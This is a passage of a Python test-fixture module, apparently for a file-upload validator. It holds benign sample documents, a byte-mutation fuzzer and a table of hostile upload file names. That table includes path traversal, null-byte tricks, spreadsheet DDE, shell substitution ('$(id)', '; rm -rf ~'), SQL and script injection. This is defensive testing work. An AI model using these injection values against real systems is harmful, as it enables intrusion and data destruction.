        "baik-pdf-kosong-600dpi", "pindai.pdf", lambda: contoh.pdf(ubah=_halaman_kosong_600_dpi, recompress_flate=False)
    ),
    _k("baik-pdf-aliran-besar", "SK.pdf", lambda: pdf_mampat(1, 20)),
    _k("baik-pdf-baris-kosong", "SK.pdf", lambda: b"\r\n" + contoh.pdf() + b"\r\n\0\0"),
    _k("baik-jpg", "foto.JPG", lambda: contoh.gambar("JPEG", (640, 480))),
    _k("baik-jpg-exif", "foto.jpg", lambda: jpeg_exif(b"MM\0*\0\0\0\x08\0\0")),
    _k("baik-jpg-mpo", "IMG_0001.jpg", jpeg_mpo),
    _k("baik-jpg-film", "PXL.MP.jpg", lambda: contoh.gambar("JPEG") + contoh.mp4()),
    _k("baik-png", "foto.png", lambda: contoh.gambar("PNG", (300, 200))),
    _k("baik-webp", "foto.webp", lambda: contoh.gambar("WEBP", (300, 200))),
    _k("baik-mp4", "rapat.mp4", contoh.mp4),
    _k("baik-docx", "surat.docx", lambda: contoh.ooxml("docx")),
    _k("baik-docx-tautan", "surat.docx", _kaitan("hyperlink", "https://contoh.invalid/?a=1&amp;b=2")),
    _k("baik-docx-tautan-unc", "surat.docx", _kaitan("hyperlink", "file:///\\\\server\\bagi\\a.docx")),
    _k(
        "baik-docx-medan",
        "surat.docx",
        lambda: contoh.ooxml(
            "docx",
            utama=_kata(
                '<w:instrText> PAGE \\* MERGEFORMAT</w:instrText><w:fldChar w:fldCharType="end"/><w:t>DDE itu apa</w:t>'
            ),
        ),
    ),
    _k(
        "baik-docx-lembar", "surat.docx", lambda: contoh.ooxml("docx", {"word/embeddings/b.xlsx": contoh.ooxml("xlsx")})
    ),
    _k(
        "baik-docx-ole",
        "surat.docx",
        lambda: contoh.ooxml("docx", {"word/embeddings/o.bin": _paket_ole("a.txt").replace(b"MZ\x90", b"isi")}),
    ),
    _k("baik-xlsx", "tabel.xlsx", lambda: contoh.ooxml("xlsx")),
    _k(
        "baik-xlsx-rumus",
        "tabel.xlsx",
        _xlsx(xl__worksheets__s___xml=b"<s><f>IF(A1=\"a|b\",Lembar2!B1,'Lembar 3'!C1)</f></s>"),
    ),
    _k("baik-pptx", "paparan.pptx", lambda: contoh.ooxml("pptx")),
    _k(
        "baik-pptx-video",
        "paparan.pptx",
        _kaitan("video", "https://contoh.invalid/v", "ppt/slides/_rels/slide1.xml.rels"),
    ),
    _k("baik-txt", "catatan.txt", "Rapat – notula é".encode()),
    _k("baik-csv", "data.csv", b"\xef\xbb\xbfa;b\r\n1;2\r\n"),
)

# Hostile names on good bytes: (name sent, name kept). None: refused, because the extension is gone.
NAMA: tuple[tuple[str, str | None], ...] = (
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\Windows\\a.pdf", "a.pdf"),
    ("/etc/cron.d/a.pdf", "a.pdf"),
    ("C:\\a\\b.pdf", "b.pdf"),
    ("a\0.exe.pdf", "a.exe.pdf"),
    ("a.pdf\0.exe", None),
    ("a\r\nX-Jahat: 1.pdf", "a X-Jahat: 1.pdf"),
    ("\u202egnp.pdf", "gnp.pdf"),
    ("a\u200b\u2066b.pdf", "ab.pdf"),
    ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ("=cmd|' /C calc'!A0.pdf", "C calc'!A0.pdf"),
    ("$(id).pdf", "$(id).pdf"),
    ("`id`.pdf", "`id`.pdf"),
    ("; rm -rf ~.pdf", "; rm -rf ~.pdf"),
    ("-rf.pdf", "-rf.pdf"),
    ("--help.pdf", "--help.pdf"),
    ("e\u0301.pdf", "é.pdf"),
    ("é.pdf", "é.pdf"),
    ('a".pdf', 'a".pdf'),
    ("a';DROP TABLE berkas;--.pdf", "a';DROP TABLE berkas;--.pdf"),
    ("<script>alert(1)<", None),
    ("<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
    ("{{7*7}}%s%n.pdf", "{{7*7}}%s%n.pdf"),
    ("CON.pdf", "CON.pdf"),
    (".htaccess", None),
    (".pdf", None),
    ("文書 🗎.pdf", "文書 🗎.pdf"),
    ("%2e%2e%2fa.pdf", "%2e%2e%2fa.pdf"),
    ("a.pdf ", "a.pdf"),
    ("a.pdf.", "a.pdf"),
)


def mutan(jumlah: int, benih: int = 7) -> list[tuple[str, str, bytes]]:
    """(key, name, bytes): controls with flipped bytes, cut, doubled or overwritten stretches; a seed names a set."""
    acak = Random(benih)
    dasar = [(k.kunci, k.nama, isi) for k in KASUS if k.harap is None and len(isi := k.isi()) < MIB]
    hasil = []
    for n in range(jumlah):
        kunci, nama, isi = dasar[n % len(dasar)]
        hasil.append((f"{kunci}~{n}", nama, _ubah(bytearray(isi), acak)))
    return hasil


def _ubah(isi: bytearray, acak: Random) -> bytes:
    cara = acak.random()
    if cara < 0.7:
        for _ in range(acak.choice((1, 1, 2, 4, 16))):
            isi[acak.randrange(len(isi))] ^= acak.randrange(1, 256)
    elif cara < 0.8:
        del isi[acak.randrange(len(isi)) :]
    else:
        awal = acak.randrange(len(isi))
        panjang = min(acak.choice((1, 4, 64, 1024)), len(isi) - awal)
        isi[awal : awal + panjang] = (
            acak.choice((b"\xff", b"\0", b"[", b"<")) * panjang if cara < 0.9 else isi[awal : awal + panjang] * 3
        )
    return bytes(isi)


def tulis(folder: Path, isi: bytes) -> Path:
    """The bytes as they wait before their check."""
    jalur = folder / "menunggu"
    jalur.write_bytes(isi)
    return jalur
